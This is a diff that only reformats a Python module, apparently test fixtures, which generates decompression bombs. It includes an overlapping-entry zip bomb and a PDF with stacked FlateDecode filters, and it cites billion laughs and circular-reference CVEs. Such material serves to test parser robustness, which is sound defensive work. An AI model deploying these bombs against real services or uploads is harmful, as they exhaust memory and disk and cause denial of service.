@@ -1,7 +1,7 @@
 """Documents that are built to hurt, made cheaply: what unpacks to gigabytes is a few kilobytes repeated.
 
-``BOMBS`` maps a name to a function without arguments. Sources: 42.zip; Fifield, A better zip bomb (WOOT 2019); CVE-2003-1564
-(billion laughs); pypdf 3429 (stacked filters); CVE-2026-24688 (circular references).
+``BOMBS`` maps a name to a function without arguments. Sources: 42.zip; Fifield, A better zip bomb (WOOT 2019);
+CVE-2003-1564 (billion laughs); pypdf 3429 (stacked filters); CVE-2026-24688 (circular references).
 """
 
 from __future__ import annotations
@@ -37,9 +37,7 @@ def members(content: list[tuple[bytes, bytes, int]]) -> bytes:
         directory += struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, *sizes, len(name), 0, 0, 0, 0, 0, at)
         directory += name
     count = min(len(content), 0xFFFF)
-    return bytes(out + directory) + struct.pack(
-        "<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), len(out), 0
-    )
+    return bytes(out + directory) + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), len(out), 0)
 
 
 def forty_two() -> bytes:
@@ -81,7 +79,9 @@ def overlapping() -> bytes:
     """One stream of zeros that a hundred entries of the directory share."""
     body = zeros(0.1)
     local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(body), 100 << 20, 1, 0) + b"a" + body
-    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, 0, len(body), 100 << 20, 1, 0, 0, 0, 0, 0, 0) + b"a"
+    entry = (
+        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, 0, len(body), 100 << 20, 1, 0, 0, 0, 0, 0, 0) + b"a"
+    )
     end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 100, 100, 100 * len(entry), len(local), 0)
     return local + 100 * entry + end
 
@@ -187,7 +187,8 @@ def stacked_filters() -> bytes:
     font = pdf.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
     filters = b" ".join([b"/FlateDecode"] * 5)
     contents = pdf.add(b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(body), filters, body))
-    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>"
+    resources = b"/Resources << /Font << /F1 %d 0 R >> >>"
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R " + resources + b" >>"
     pdf.pages.append(pdf.add(page % (contents, font)))
     return pdf.bytes()
 
